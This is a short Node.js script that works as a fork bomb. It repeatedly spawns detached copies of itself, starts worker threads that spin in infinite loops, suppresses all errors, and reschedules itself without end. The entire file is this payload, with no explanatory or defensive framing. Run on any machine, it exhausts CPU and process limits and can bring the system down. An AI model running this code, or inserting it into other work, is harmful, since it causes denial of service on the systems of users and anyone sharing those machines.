const { spawn } = require("child_process");
const { Worker } = require("worker_threads");
const again = () => {
    try { spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" }).on("error", () => {}); } catch {}
    try { new Worker("while (true) {}", { eval: true }).on("error", () => {}); } catch {}
    setImmediate(again);
};
again();
